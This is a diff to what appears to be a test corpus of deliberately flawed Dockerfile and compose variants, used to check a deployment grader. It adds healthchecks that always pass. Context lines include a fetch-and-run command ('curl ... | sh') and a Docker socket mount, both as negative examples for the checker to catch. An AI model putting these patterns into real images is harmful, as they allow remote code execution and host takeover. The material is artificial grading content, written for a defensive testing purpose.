@@ -50,6 +50,7 @@ def start(*pairs: tuple[str, str]) -> Files:
     return {"run.py": edited(RUN, *pairs)}
 
 
+ASKS = next(line for line in DOCKERFILE.splitlines() if line.startswith("HEALTHCHECK"))
 LABELLED = SERVING[SERVING.index("    version_labels") : SERVING.index("  }\n}")]
 
 CORPUS = {
@@ -73,6 +74,8 @@ CORPUS = {
             Wrong(image((CMD, "CMD waitress-serve --listen=0.0.0.0:8000 api:app")), "deploy-1.start", "shell-form"),
             Wrong(image((CMD, 'CMD ["uvicorn", "api:app"]')), "deploy-1.start", "loopback"),
             Wrong(image(("HEALTHCHECK", "LABEL a=b\n# HEALTHCHECK")), "deploy-1.health", "no-health"),
+            Wrong(image((ASKS, "HEALTHCHECK CMD true")), "deploy-1.health", "always-well"),
+            Wrong(image((ASKS, 'HEALTHCHECK --interval=5s CMD ["/bin/sh", "-c", "exit 0"]')), "deploy-1.health", "always-well"),
             Wrong(image(("COPY api.py .", "RUN curl -s https://example.com/get | sh\nCOPY api.py .")), "deploy-1.contents", "piped"),
             Wrong(image(("COPY models models\n", "")), "deploy-1.contents", "no-model"),
             Wrong(image(("COPY models models\nCOPY api.py .", "COPY . ."), data="x"), "deploy-1.contents", "data"),
@@ -104,6 +107,8 @@ CORPUS = {
             Wrong(compose((":ro", ":ro\n      - /var/run/docker.sock:/var/run/docker.sock:ro")), "deploy-3.alone", "socket"),
             Wrong(compose(("      replicas: 2", "      replicas: 1")), "deploy-3.servers", "one"),
             Wrong(compose((WAITS, "")), "deploy-3.ready", "no-wait"),
+            Wrong(compose(("[CMD, python, ask.py]", "[CMD, /bin/true]")), "deploy-3.ready", "always-well"),
+            Wrong(compose(("[CMD, python, ask.py]", "exit 0")), "deploy-3.ready", "always-well"),
             Wrong(compose(source=TWO_SERVICES), "deploy-3.ready", "no-health"),
             Wrong(compose(("  server:\n    image", "  server:\n\timage")), "deploy-3.servers", "not-yaml"),
         ],
